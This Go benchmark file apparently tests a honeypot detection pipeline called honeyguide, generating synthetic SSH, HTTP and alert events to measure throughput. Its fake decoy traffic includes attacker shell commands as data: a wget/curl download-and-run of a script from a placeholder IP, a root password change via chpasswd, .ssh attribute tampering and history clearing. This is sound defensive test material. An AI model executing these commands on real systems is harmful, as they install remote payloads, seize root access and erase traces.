package pipeline_test

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/detect"
	"honeyguide/internal/detect/sigma"
	"honeyguide/internal/eventlog"
	"honeyguide/internal/kind"
	"honeyguide/internal/pipeline"
	"honeyguide/internal/state"
)

// traffic makes n events of a busy decoy: many guessers, some intruders, web
// probes and findings of another product.
func traffic(n int) []honeyguide.Event {
	rnd := rand.New(rand.NewPCG(1, 2))
	lines := []string{
		"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4}'", "crontab -l", "w", "ls -lh $(which ls)",
		"cd /tmp || cd /var/run; wget http://198.51.100.23/x.sh; curl -O http://198.51.100.23/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh",
		`echo "root:Giivkw9XLKre"|chpasswd|bash`, "cd ~; chattr -ia .ssh; lockr -ia .ssh", "/bin/busybox TRQBQ", "history -c",
	}
	out := make([]honeyguide.Event, n)
	for i := range out {
		src := rnd.IntN(2000)
		e := honeyguide.Event{
			ID: honeyguide.DerivedID(noon, fmt.Sprint(i)), Time: noon.Add(time.Duration(i) * time.Second / 5000), Observed: noon,
			Severity: honeyguide.SeverityInformational, Sensor: "ssh", Service: "ssh", Session: fmt.Sprintf("session-%d-%d", src, i/20_000),
			Src: honeyguide.Endpoint{Addr: netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, byte(src >> 8), byte(src)}), 4711)},
		}
		switch p := rnd.IntN(100); {
		case p < 15:
			e.Activity = honeyguide.ActivityConnect
		case p < 60:
			e.Activity = honeyguide.ActivityLoginFailed
			e.Set(honeyguide.AttrUser, []string{"root", "admin", "ubuntu", "pi"}[rnd.IntN(4)])
			e.Set(honeyguide.AttrPassword, fmt.Sprint(rnd.IntN(5000)))
		case p < 62:
			e.Activity = honeyguide.ActivityLoginSuccess
			e.Set(honeyguide.AttrUser, "root")
		case p < 80:
			e.Activity = honeyguide.ActivityCommand
			e.Set(honeyguide.AttrCommand, lines[rnd.IntN(len(lines))])
		case p < 90:
			e.Activity, e.Sensor, e.Service = honeyguide.ActivityRequest, "http", "http"
			e.Set(honeyguide.AttrMethod, "GET")
			e.Set(honeyguide.AttrURL, []string{"/", "/.env", "/wp-login.php", "/index.html?id=1"}[rnd.IntN(4)])
			e.Set(honeyguide.AttrUserAgent, "Mozilla/5.0 (X11; Linux x86_64)")
		case p < 94:
			e.Activity, e.Sensor, e.Service, e.Session, e.Severity = honeyguide.ActivityFinding, "suricata", "", "", honeyguide.SeverityMedium
			e.Set(honeyguide.AttrProduct, "suricata")
			e.Set(honeyguide.AttrRuleID, fmt.Sprint(2000000+rnd.IntN(50)))
			e.Set(honeyguide.AttrRule, "ET SCAN something")
		default:
			e.Activity = honeyguide.ActivityClose
		}
		out[i] = e
	}
	return out
}

// findings makes n alerts of another product: 5,000 sources by a rough power
// law, 40 rules.
func findings(n int) []honeyguide.Event {
	rnd := rand.New(rand.NewPCG(1, 2))
	out := make([]honeyguide.Event, n)
	for i := range out {
		src := int(5000 * rnd.Float64() * rnd.Float64() * rnd.Float64())
		id := rnd.IntN(40)
		e := honeyguide.Event{
			ID: honeyguide.DerivedID(noon, "finding", fmt.Sprint(i)), Time: noon.Add(time.Duration(i) * 50 * time.Millisecond), Observed: noon,
			Class: honeyguide.ClassDetection, Activity: honeyguide.ActivityFinding, Sensor: "generic",
			Severity: []honeyguide.Severity{2, 2, 2, 3, 3, 4}[rnd.IntN(6)],
			Src:      honeyguide.Endpoint{Addr: netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, byte(src / 250), byte(1 + src%250)}), 4711)},
		}
		e.Set(honeyguide.AttrProduct, "generic")
		e.Set(honeyguide.AttrRuleID, fmt.Sprint("rule_", id))
		e.Set(honeyguide.AttrRule, fmt.Sprintf("generated alert of rule %d that fires often", id))
		out[i] = e
	}
	return out
}

// BenchmarkPipeline measures events from the log to a committed state: detect,
// score, correlate, plan, write. The design asks for 20,000 a second.
func BenchmarkPipeline(b *testing.B) {
	b.Run("decoys", func(b *testing.B) { benchmark(b, traffic(100_000)) })
	b.Run("decoys and rules", func(b *testing.B) { benchmark(b, traffic(100_000), sigma.Kind) })
	b.Run("steady", func(b *testing.B) { benchmark(b, traffic(400_000)) })
	b.Run("findings", func(b *testing.B) { benchmark(b, findings(100_000)) })
}

func benchmark(b *testing.B, events []honeyguide.Event, more ...kind.Kind[detect.Deps, detect.Detector]) {
	n := len(events)
	var cpu time.Duration
	for b.Loop() {
		b.StopTimer()
		w := newWorld(b)
		for _, k := range more {
			d, err := k.Open(b.Context(), nil, detect.Deps{})
			if err != nil {
				b.Fatal(err)
			}
			w.extra = append(w.extra, pipeline.Detector{Name: k.Name, Detector: d})
		}
		for i := 0; i < n; i += 4096 {
			if _, err := w.log.Append(b.Context(), eventlog.Batch{Events: events[i:min(i+4096, n)]}); err != nil {
				b.Fatal(err)
			}
		}
		c := w.consumer()
		ctx, stop := context.WithCancel(b.Context())
		ended := make(chan error, 1)
		before := used()
		b.StartTimer()
		go func() { ended <- c.Run(ctx) }()
		if err := c.Idle(ctx, eventlog.Seq(n)); err != nil {
			b.Fatal(err)
		}
		b.StopTimer()
		cpu += used() - before
		stop()
		<-ended
		var text strings.Builder
		_, _ = w.metrics.WriteTo(&text)
		b.ReportMetric(number(text.String(), "honeyguide_pipeline_batch_seconds_count"), "commits")
		b.ReportMetric(alerts(b, w), "alerts")
		b.StartTimer()
	}
	b.ReportMetric(float64(b.N*n)/b.Elapsed().Seconds(), "events/s")
	b.ReportMetric(float64(b.N*n)/cpu.Seconds(), "events/cpu-s")
}

// number returns the value of a metric without labels.
func number(text, name string) float64 {
	_, rest, _ := strings.Cut(text, "\n"+name+" ")
	line, _, _ := strings.Cut(rest, "\n")
	n, _ := strconv.ParseFloat(line, 64)
	return n
}

// alerts counts the alerts there are.
func alerts(b *testing.B, w *world) (n float64) {
	err := w.state.View(b.Context(), func(tx state.Tx) error {
		counts, err := tx.Alerts().Counts(b.Context(), state.AlertQuery{})
		for _, c := range counts {
			n += float64(c)
		}
		return err
	})
	if err != nil {
		b.Fatal(err)
	}
	return n
}

// used returns the processor time of this process.
func used() time.Duration {
	var u syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &u)
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

// BenchmarkIntake measures completion and append to the memory log.
func BenchmarkIntake(b *testing.B) {
	events := traffic(4096)
	w := newWorld(b)
	for b.Loop() {
		if err := w.intake.Add(b.Context(), events); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N*len(events))/b.Elapsed().Seconds(), "events/s")
}
